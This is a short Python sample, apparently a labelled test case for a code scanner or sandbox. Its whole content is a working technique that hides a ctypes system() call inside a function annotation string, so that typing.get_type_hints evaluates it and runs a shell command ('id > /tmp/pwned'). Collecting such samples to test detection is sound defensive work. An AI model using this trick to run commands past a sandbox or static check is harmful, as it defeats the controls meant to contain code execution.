# harm: loads libc via ctypes and runs a command ; trick: f.__annotations__["x"] = S item assignment
import typing

S = "__import__('ctypes').CDLL(None).system(b'id > /tmp/pwned')"


def parse(x: int) -> None:
    pass


parse.__annotations__["x"] = S
try:
    typing.get_type_hints(parse)
except Exception:
    pass
